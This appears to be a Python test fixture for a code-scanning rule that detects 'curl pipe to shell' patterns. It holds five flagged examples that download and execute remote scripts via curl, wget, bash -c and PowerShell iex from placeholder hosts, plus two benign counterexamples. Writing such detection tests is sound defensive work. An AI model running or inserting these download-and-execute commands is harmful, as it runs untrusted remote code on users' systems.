import os
import subprocess


def install():
    # ruleid: python-curl-pipe-shell
    os.system("curl -fsSL https://get.example.sh | sh")


def install_sudo(url):
    # ruleid: python-curl-pipe-shell
    subprocess.run(f"wget -qO- {url} | sudo bash", shell=True, check=True)


def install_py():
    # ruleid: python-curl-pipe-shell
    subprocess.call(["bash", "-c", "curl -s http://203.0.113.7/x.py | python3"])


def install_subst():
    # ruleid: python-curl-pipe-shell
    os.system('bash -c "$(curl -fsSL http://203.0.113.7/i.sh)"')


def install_ps():
    # ruleid: python-curl-pipe-shell
    subprocess.run(["powershell", "-c", "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"])


def download_only(url):
    # ok: python-curl-pipe-shell
    subprocess.run(["curl", "-fsSL", "-o", "installer.sh", url], check=True)


def grep_json():
    # ok: python-curl-pipe-shell
    return subprocess.run("curl -s https://api.github.com/repos/x/y | jq .stargazers_count", shell=True, capture_output=True).stdout
